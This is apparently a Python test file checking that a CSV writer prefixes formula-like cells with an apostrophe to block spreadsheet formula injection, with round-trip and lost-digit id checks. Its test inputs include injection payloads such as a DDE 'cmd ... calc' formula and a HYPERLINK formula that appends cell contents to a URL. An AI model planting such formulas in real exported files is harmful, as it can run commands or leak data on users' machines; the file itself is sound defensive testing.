"""No text of a table is computed by a spreadsheet, no number is damaged, and everything comes back as it was."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mrm.system.files import write_csv
from mrm.system.spreadsheet_cells import guarded, lost_digits, unguarded
from mrm.system.table_files import write_table
from mrm.system.tables import read_csv_rows

STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")  # the list of OWASP, "CSV Injection"
FORMULAS = [
    '=HYPERLINK("https://example.org/?"&A1)',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\u00a0=1",
    "＝1",
    "-",
    "- no effusion",
    "--1",
    "+49 30 1234",
    "-1/2",
    "-1,5",
]
NUMBERS = ["-0.5", "+3", "-1", "-1e-7", "+.5", "-5.", "0", "1.5", " -2", "-0"]
PLAIN = ["", "images/a.png", "no effusion", "'", "''", "'quoted'", "O'Brien", "a=b", "1-2", "5-6 mm"]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_a_spreadsheet_would_compute_begins_with_an_apostrophe(text):
    assert guarded(text) == "'" + text
    assert unguarded(guarded(text)) == text


@pytest.mark.parametrize("text", NUMBERS + PLAIN)
def test_numbers_and_other_text_are_left_as_they_are(text):
    assert guarded(text) == text == unguarded(text)


@pytest.mark.parametrize("text", ["'=1", "''=1", "'-", "'-0.5", "'\t"])
def test_text_that_looks_guarded_comes_back_with_its_apostrophes(text):
    assert guarded(text) == "'" + text
    assert unguarded(guarded(text)) == text


CELL = st.one_of(st.text(max_size=12), st.text("'=+-@\t\r\n ＝1.5e,", max_size=6))


@given(CELL)
def test_any_text_comes_back_and_none_begins_as_a_formula(text):
    assert unguarded(guarded(text)) == text
    assert not guarded(text).startswith(STARTS) or is_number(guarded(text))


def is_number(text: str) -> bool:
    try:
        return float(text) is not None and not set(text.lower()) & set("ni_")  # nan, inf and 1_000 are text in a table
    except ValueError:
        return False


def test_a_csv_has_no_cell_that_is_computed_and_is_read_back_as_it_was(tmp_path):
    rows = [[text, text] for text in FORMULAS + NUMBERS + PLAIN]
    path = write_csv(tmp_path / "a.csv", ["=name", "@note"], rows)
    with open(path, newline="", encoding="utf-8") as text:
        cells = [cell for row in csv.reader(text) for cell in row]
    assert len(cells) == 2 + 2 * len(rows)
    assert [c for c in cells if c.startswith(STARTS) and c not in NUMBERS] == []
    header, again = read_csv_rows(path)
    assert header == ["=name", "@note"]
    expected = [row for row in rows if row[0].strip()]  # a row of blanks is no row
    assert [fields for _, fields in again] == [
        [field.lstrip(" ") if field in NUMBERS else field for field in row] for row in expected
    ]


@pytest.mark.parametrize("value", [-0.5, -1, 1e-7, float("-inf"), None])
def test_values_that_are_numbers_are_never_guarded(tmp_path, value):
    path = write_csv(tmp_path / "a.csv", ["x", "y"], [[value, "z"]])
    expected = io.StringIO()
    csv.writer(expected, lineterminator="\n").writerows([["x", "y"], [value, "z"]])
    assert path.read_text() == expected.getvalue()


def test_other_formats_hold_the_text_itself(tmp_path):
    path = write_table(tmp_path / "a.jsonl", {"path": str}, [{"path": "=1"}])
    assert path.read_text() == '{"path": "=1"}\n'
    path = write_table(tmp_path / "a.csv", {"path": str}, [{"path": "=1"}])
    assert path.read_text() == "path\n'=1\n"


@pytest.mark.parametrize(
    ("values", "lost"),
    [
        (["1.23E+11", "1,23E+05", "2E10", "12345"], [0, 1, 2]),
        (["20240531123456000", *(f"2024053112345{n}000" for n in range(5))], list(range(6))),
        (["20240531123456000", "20240531123456789"], []),  # one has its last digits
        (["A1E5", "1.2.840.10008", "0012", "", "1E", "5e"], []),
        (["20240531123456000"] * 9, []),  # one id
    ],
)
def test_ids_that_a_spreadsheet_shortened_are_found(values, lost):
    assert lost_digits(values) == lost
